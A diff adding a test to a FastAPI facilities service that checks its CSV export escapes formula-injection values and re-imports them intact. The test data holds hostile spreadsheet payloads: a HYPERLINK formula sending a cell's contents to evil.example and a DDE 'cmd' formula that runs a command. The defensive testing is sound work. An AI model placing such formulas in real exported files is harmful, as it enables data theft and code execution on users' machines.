@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import Callable
+from io import StringIO
 from typing import Any
 
 from fastapi.testclient import TestClient
@@ -195,3 +197,20 @@ def test_create_entity_bad_input(
         resp = client.post("/api/v1/facilities/entities", json=body, headers=admin)
         assert resp.status_code == 422 and resp.json()["code"] == code, (code, resp.text)
     assert counts(sessions) == (0, 0, 0, 0)
+
+
+def test_the_public_csv_export_carries_no_formula_cell_and_imports_back_unchanged(
+    client: TestClient, auth: Callable[..., dict[str, str]]
+) -> None:
+    attack = entity_record(
+        name_ru='=HYPERLINK("http://evil.example/?"&A2,"Поликлиника")',
+        name_kk="@SUM(1+1)",
+        sites=[site_record(address_ru="+1+cmd|' /C calc'!A0", address_kk="-2+3")],
+    )
+    data = json.dumps(io.to_json_obj([attack]), ensure_ascii=False).encode()
+    assert upload(client, auth(Role.FUND_ADMIN), "list.json", data, "application/json").status_code == 200
+    exported = client.get("/api/v1/facilities/export?format=csv")
+    cells = [c for row in csv.reader(StringIO(exported.text)) for c in row]
+    assert "'" + attack.name_ru in cells and "'-2+3" in cells
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert io.read_csv(exported.content, {"710000000"}) == ([attack], [])
